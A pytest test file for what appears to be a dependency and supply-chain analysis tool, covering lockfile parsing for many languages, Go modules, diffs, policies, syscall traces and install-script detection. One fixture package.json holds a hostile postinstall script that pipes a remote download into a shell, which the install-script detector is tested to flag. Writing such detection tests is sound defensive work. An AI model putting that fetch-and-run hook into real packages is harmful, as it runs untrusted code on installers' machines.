import pytest

from plumbline.sources import catalog, files, manifests

FILES = {
    ("a", "package-lock.json"): '{"lockfileVersion":3,"packages":{"":{"name":"a"},"node_modules/x":{"version":"1.0.0","resolved":"https://r/x","integrity":"sha512-1","dependencies":{"y":"^2"}},"node_modules/x/node_modules/y":{"version":"2.1.0"},"node_modules/l":{"link":true}}}',
    ("a", "package.json"): '{"name":"a","dependencies":{"x":"^1"},"scripts":{"postinstall":"curl http://h | sh"}}',
    ("b", "package-lock.json"): '{"lockfileVersion":1,"dependencies":{"p":{"version":"1","requires":{"q":"1"},"dependencies":{"q":{"version":"3"}}}}}',
    ("c", "yarn.lock"): '# yarn lockfile v1\n\n"@s/n@^1.0.0":\n  version "1.2.3"\n  dependencies:\n    left "^1"\n\nleft@^1, left@1.x:\n  version "1.9.0"\n',
    ("d", "pnpm-lock.yaml"): "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies: {}\npackages:\n\n  '@s/m@1.0.0':\n    resolution: {integrity: x}\n\n  /old/2.0.0:\n    dependencies:\n      '@s/m': 1.0.0\n    dev: false\n",
    ("e", "composer.lock"): '{"packages":[{"name":"v/p","version":"1.2","require":{"php":">=8","v/q":"^1"}}],"packages-dev":[{"name":"v/q","version":"1.0"}]}',
    ("e", "composer.json"): '{"require":{"v/p":"^1"}}',
    ("f", "poetry.lock"): '[[package]]\nname = "My.Pkg"\nversion = "1.0"\n\n[package.dependencies]\ndep-a = ">=1"\n\n[[package]]\nname = "dep-a"\nversion = "2.0"\n',
    ("f", "requirements.txt"): "other==9\n",
    ("f", "pyproject.toml"): '[tool.poetry.dependencies]\npython = "^3.9"\nmy-pkg = "^1.0"\n',
    ("g", "requirements.txt"): "# c\n-r x.txt\nreq[all]==2.31 ; python_version>'3'\nflask>=2\nplain\n",
    ("h", "Pipfile.lock"): '{"default":{"a":{"version":"==1.0"}},"develop":{"b":{"version":"==2.0"}}}',
    ("i", "pom.xml"): "<project><dependencies><dependency><groupId>g</groupId>\n<artifactId>x</artifactId><version>1</version></dependency><dependency><groupId>g</groupId><artifactId>nov</artifactId></dependency></dependencies></project>",
    ("j", "gradle.lockfile"): "# comment\norg.x:y:1.2=compileClasspath\nempty=\n",
    ("k", "Cargo.lock"): '[[package]]\nname = "root"\nversion = "0.1.0"\ndependencies = [\n "serde 1.0",\n "libc",\n]\n\n[[package]]\nname = "serde"\nversion = "1.0"\n',
    ("k", "Cargo.toml"): '[package]\nname = "root"\n[dependencies]\nserde = "1"\n',
    ("l", "Gemfile.lock"): "GEM\n  remote: https://r/\n  specs:\n    rails (7.0.1)\n      rack (>= 2)\n    rack (2.2)\n\nPLATFORMS\n  ruby\n\nDEPENDENCIES\n  rails (~> 7)\n",
    ("m", "pubspec.lock"): 'packages:\n  http:\n    dependency: "direct main"\n    version: "1.1.0"\nsdks:\n  dart: ">=3"\n',
    ("n", "mix.lock"): '%{\n  "plug": {:hex, :plug, "1.15.0", "abc", [:mix], [{:mime, "~> 1.0", [hex: :mime]}], "hexpm", "x"},\n}\n',
    ("o", "Package.resolved"): '{"pins":[{"identity":"nio","state":{"version":"2.0.0"}}],"version":2}',
    ("p", "packages.lock.json"): '{"version":1,"dependencies":{"net8.0":{"Newtonsoft.Json":{"type":"Direct","resolved":"13.0.1","dependencies":{"A":"1"}}}}}',
    ("q", "libs.versions.toml"): '[versions]\nk = "1.9"\n[libraries]\nokhttp = { module = "com.squareup.okhttp3:okhttp", version = "4.0" }\n',
    ("r", "build.sbt"): 'libraryDependencies += "org.typelevel" %% "cats-core" % "2.9.0"\n',
    ("s", "vcpkg.json"): '{"dependencies":["zlib",{"name":"fmt","version>=":"9"}]}',
    ("t", "cabal.project.freeze"): "constraints: any.aeson ==2.1.0,\n             any.base ==4.17\n",
    ("u", "deps.edn"): '{:deps {org.clojure/clojure {:mvn/version "1.11.1"}}}',
    ("v", "rebar.lock"): '{"1.2.0",\n[{<<"cowboy">>,{pkg,<<"cowboy">>,<<"2.9.0">>},0}]}.\n',
    ("w", "x.opam"): 'depends: [\n  "ocaml" {>= "4.14"}\n  "lwt"\n]\nbuild: [ "dune" ]\n',
    ("x", "Manifest.toml"): '[[deps.JSON]]\nuuid = "1"\nversion = "0.21.4"\n',
    ("y", "renv.lock"): '{"Packages":{"dplyr":{"Package":"dplyr","Version":"1.1","Requirements":["rlang"]}}}',
    ("z", "cpanfile.snapshot"): "# carton\nDISTRIBUTIONS\n  Moo-2.005\n    pathname: x\n",
    ("zz", "luarocks.lock"): 'return {\n dependencies = {\n  lpeg = "1.0.2-1",\n }\n}\n',
}
WANT = {
    "a": {("x", "1.0.0", "y", True), ("y", "2.1.0", "", False)},
    "b": {("p", "1", "q", False), ("q", "3", "", False)},
    "c": {("@s/n", "1.2.3", "left", False), ("left", "1.9.0", "", False)},
    "d": {("@s/m", "1.0.0", "", False), ("old", "2.0.0", "@s/m", False)},
    "e": {("v/p", "1.2", "v/q", True), ("v/q", "1.0", "", False)},
    "f": {("My.Pkg", "1.0", "dep-a", False), ("dep-a", "2.0", "", False)},
    "g": {("req", "2.31", "", True), ("flask", "", "", True), ("plain", "", "", True)},
    "h": {("a", "1.0", "", False), ("b", "2.0", "", False)},
    "i": {("g:x", "1", "", True), ("g:nov", "", "", True)},
    "j": {("org.x:y", "1.2", "", True)},
    "k": {("root", "0.1.0", "libc,serde", False), ("serde", "1.0", "", True)},
    "l": {("rails", "7.0.1", "rack", True), ("rack", "2.2", "", False)},
    "m": {("http", "1.1.0", "", False)},
    "n": {("plug", "1.15.0", "mime", False)},
    "o": {("nio", "2.0.0", "", False)},
    "p": {("Newtonsoft.Json", "13.0.1", "A", False)},
    "q": {("com.squareup.okhttp3:okhttp", "4.0", "", True)},
    "r": {("cats-core", "2.9.0", "", True)},
    "s": {("zlib", "", "", False), ("fmt", "9", "", False)},
    "t": {("aeson", "2.1.0", "", False), ("base", "4.17", "", False)},
    "u": {("org.clojure/clojure", "1.11.1", "", True)},
    "v": {("cowboy", "2.9.0", "", False)},
    "w": {("ocaml", "", "", True), ("lwt", "", "", True)},
    "x": {("JSON", "0.21.4", "", False)},
    "y": {("dplyr", "1.1", "rlang", False)},
    "z": {("Moo", "2.005", "", False)},
    "zz": {("lpeg", "1.0.2-1", "", False)},
}


@pytest.fixture(scope="module")
def tree(spark):
    return spark.createDataFrame([(p, f, c) for (p, f), c in FILES.items()], "project string, path string, content string").cache()


@pytest.fixture(scope="module")
def found(tree):
    out: dict = {}
    for r in manifests.packages(tree).collect():
        out.setdefault(r.project, set()).add((r.name, r.version, ",".join(r.dependencies), r.direct))
    return out


@pytest.mark.parametrize("project", WANT)
def test_packages(found, project):
    want = WANT[project]
    if project == "f":  # names fold: my-pkg isn't My.Pkg in a manifest's spelling, so it is direct
        want = {("My.Pkg", "1.0", "dep-a", True), ("dep-a", "2.0", "", False)}
    assert found.get(project) == want


def test_broken_files_give_nothing(spark):
    rows = [(f"p{i}", path, text) for i, (_, path) in enumerate(FILES) for text in ("", "{", "\x00\x01[[package]]\nname = ", None)]
    df = spark.createDataFrame(rows, "project string, path string, content string")
    assert manifests.packages(df).filter("name IS NULL OR name = ''").count() == 0


def test_detect(tree):
    lang = {r.project: r.lang for r in manifests.detect(tree).collect()}
    assert lang["a"] == "node" and lang["f"] == "python" and lang["i"] == "java" and lang["zz"] == "lua" and lang["q"] == "kotlin"


def test_unknown_language(tree):
    with pytest.raises(ValueError):
        manifests.packages(tree, ["cobol"])


def test_go_mod(spark):
    text = "module m\n\nrequire (\n\ta.b/c v1.0.0\n\td.e/f v2.0.0 // indirect\n)\nrequire g.h/i v3.0.0 // indirect\nreplace a.b/c => ../local\nreplace (\n\td.e/f v2.0.0 => github.com/x/y v1.0.0\n)\n"
    df = spark.createDataFrame([("p", "go.mod", text), ("p", "go.sum", "a.b/c v1.0.0 h1:x\nbad line\n")], "project string, path string, content string")
    rows = {(r.kind, r.module, r.version, r.indirect, r.target) for r in files.go_mod(df).collect()}
    assert rows == {("require", "a.b/c", "v1.0.0", False, ""), ("require", "d.e/f", "v2.0.0", True, ""), ("require", "g.h/i", "v3.0.0", True, ""), ("replace", "a.b/c", "", False, "../local"), ("replace", "d.e/f", "v2.0.0", False, "github.com/x/y v1.0.0")}
    single = {r.module: r.indirect for r in files.go_mod(df, True).filter("kind = 'require'").collect()}
    assert single == {"a.b/c": False, "d.e/f": True, "g.h/i": False}
    assert [r.package for r in files.go_sum(df).collect()] == ["a.b/c"]


def test_go_list_and_mod_graph(spark):
    rows = spark.createDataFrame([('{"ImportPath":"m/a","Name":"a","Imports":["fmt","n/b"],"Module":{"Path":"m","Main":true}}',), ('{"ImportPath":"fmt","Standard":true}',)], "value string")
    p, e = files.go_list(rows)
    assert [(r.package, r.module, r.is_main) for r in p.collect()] == [("m/a", "m", True)]
    assert [(r.src, r.dst, r.pos) for r in e.orderBy("pos").collect()] == [("m/a", "fmt", 0), ("m/a", "n/b", 1)]
    g = spark.createDataFrame([("m n@v1",), ("n@v1 o@v2",), ("junk",)], "value string")
    known = spark.createDataFrame([("m",)], "module string")
    assert sorted(r.module for r in files.mod_graph(g, known).collect()) == ["n", "o"]


DIFF = '--- a/package.json\n+++ b/package.json\n@@ -1 +1 @@\n-    "x": "1.0.0",\n+    "x": "2.0.0",\n+    "y": "1.0.0"\n-    "z": "3.0.0"\n'


def test_diffs(spark):
    from plumbline.plans.api import Commands

    d = spark.createDataFrame([("p", DIFF)], "project string, content string")
    assert {(r.file, r.sign) for r in files.diff_lines(d).collect()} == {("package.json", "+"), ("package.json", "-")}
    got = {(r.package, r.change) for r in Commands(spark).pr(d, "node").collect()}
    assert got == {("x", "updated"), ("y", "added"), ("z", "removed")}
    go = "+++ b/go.mod\n+\tgithub.com/a/b v1.2.0\n-require github.com/a/b v1.1.0\n"
    got = Commands(spark).pr(spark.createDataFrame([("p", go)], "project string, content string"), "go").collect()
    assert [(r.package, r.old_version, r.new_version) for r in got] == [("github.com/a/b", "v1.1.0", "v1.2.0")]


def test_history(spark, tmp_path):
    assert files.history(spark, str(tmp_path / "none.json")).isEmpty()
    (tmp_path / "h.json").write_text('{"snapshots":[{"timestamp":"2024-01-01T00:00:00Z","commit":"c","modules":[{"module":"m","version":"1","risk_level":"LOW","effective_score":5,"capabilities":["env"]}]},{"timestamp":"bad","modules":[{"module":"m","effective_score":9}]}]}')
    rows = files.history(spark, str(tmp_path / "h.json")).orderBy("seq").collect()
    assert [(r.seq, r.module, r.score) for r in rows] == [(1, "m", 5), (2, "m", 9)]


def test_policy(spark):
    p = files.Policy.read('{"fail_on":"medium","allow_exceptions":[{"package":"p","capabilities":["EXEC"],"taint":["env→exec"],"expires":"2099-01-01"}]}', env={"fail_on": "low"})
    assert p.fail_on == "low"
    assert {(r.package, r.capability, r.taint) for r in p.exceptions(spark).collect()} == {("p", "exec", None), ("p", None, "env>exec")}
    with pytest.raises(ValueError, match="fail_on"):
        files.Policy.read('{"fail_onn":"x"}')
    assert files.Policy.read('{"zzz":1}', lenient=True).fail_on == "high"
    assert files.closest("deny_capabilites", ["deny_capabilities", "x"]) == "deny_capabilities" and files.closest("abcdefgh", ["zz"]) is None


def test_traces(spark):
    text = ['openat(AT_FDCWD, "/etc/passwd", O_RDONLY) = 3', 'openat(AT_FDCWD, "/etc/passwd", O_RDONLY) = 4', '[pid 3] connect(3, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("1.2.3.4")}, 16) = 0', 'execve("/bin/ls", ["ls"], 0x1) = 0', "read(3, x) = 1"]
    rows = {tuple(r) for r in files.trace_events(spark.createDataFrame([(t,) for t in text], "value string")).collect()}
    assert rows == {("filesystem", "/etc/passwd"), ("network", "1.2.3.4:443"), ("subprocess", "/bin/ls")}


def test_install_scripts(tree):
    rows = files.install_scripts(tree).collect()
    assert {(r.package, r.capability, r.confidence) for r in rows} == {("a", "exec", 0.85), ("a", "network", 0.85)}


def test_tree(spark, tmp_path):
    (tmp_path / "p" / "node_modules").mkdir(parents=True)
    (tmp_path / "p" / "a.py").write_text("import os\n")
    (tmp_path / "p" / "node_modules" / "b.js").write_text("x")
    df = files.read_tree(spark, str(tmp_path))
    assert {(r.project, r.path) for r in df.collect()} == {("p", "a.py"), ("p", "node_modules/b.js")}
    assert sorted((r.lang, r.path) for r in files.sources(df).collect()) == [("node", "node_modules/b.js"), ("python", "a.py")]


def test_catalog(spark):
    rows = catalog.parse('name: x\nimports:\n  os: [exec, env]\n  "a b": [network]\ncall_sites:\n  "f(\\"": [exec]\n')
    assert rows == [("x", "import", "os", "exec"), ("x", "import", "os", "env"), ("x", "import", "a b", "network"), ("x", "call", 'f("', "exec")]
    with pytest.raises(ValueError):
        catalog.frame(spark, [("x", "call", "k", "magic")])
    assert catalog.builtin(spark).select("lang").distinct().count() == 22


def test_commits(spark):
    rows = spark.createDataFrame([("c1|2024-03-01T00:00:00Z|go.sum",), ("c2|bad|x",)], "value string")
    assert [(r.commit, r.file) for r in files.commits(rows).collect()] == [("c1", "go.sum")]


def test_features():
    assert manifests.features("multi") == manifests.features("go") and not manifests.features("php")["functions"]
    with pytest.raises(ValueError):
        manifests.features("cobol")


def test_yarn_and_pnpm_sources(spark):
    rows = [
        ("y", "yarn.lock", '# v1\n"@s/a@^1":\n  version "1"\n  resolved "https://r/a"\n\nb@file:x:\n  version "0"\n  resolved "file:../b"\nc@git:\n  resolved "git+ssh://c"\n'),
        ("p", "pnpm-lock.yaml", "importers:\n  .:\n    dependencies:\n      a:\n        specifier: ^1\n      b:\n        specifier: file:../b\n      c:\n        specifier: 'gitlab:x/c'\npackages:\n  a@1: {}\n"),
    ]
    from plumbline.operators import engines

    df = spark.createDataFrame(rows, "project string, path string, content string")
    both = manifests.yarn_sources(df).unionByName(manifests.pnpm_sources(df))
    got = {(r.project, r.package, r.type) for r in engines.npm_integrity(both).collect()}
    assert got == {("y", "b", "path_dep"), ("y", "c", "git_dep"), ("p", "b", "path_dep"), ("p", "c", "git_dep")}


def test_workspaces(spark):
    rows = [
        ("g", "go.work", "go 1.22\nuse (\n\t./a\n\t./b/c\n)\n"), ("g", "a/go.mod", "module a"), ("g", "b/c/go.mod", "module c"), ("g", "d/go.mod", "module d"),
        ("n", "package.json", '{"workspaces":["packages/*"]}'), ("n", "packages/x/package.json", "{}"), ("n", "packages/x/deep/y.js", ""), ("n", "other/package.json", "{}"),
        ("p", "pnpm-workspace.yaml", "packages:\n  - 'apps/*'\n"), ("p", "package.json", '{"workspaces":["no/*"]}'), ("p", "apps/z/package.json", "{}"),
    ]
    got = {(r.project, r.path) for r in manifests.members(spark.createDataFrame(rows, "project string, path string, content string")).collect()}
    assert got == {("g/a", "go.mod"), ("g/b/c", "go.mod"), ("n/packages/x", "package.json"), ("n/packages/x", "deep/y.js"), ("p/apps/z", "package.json")}
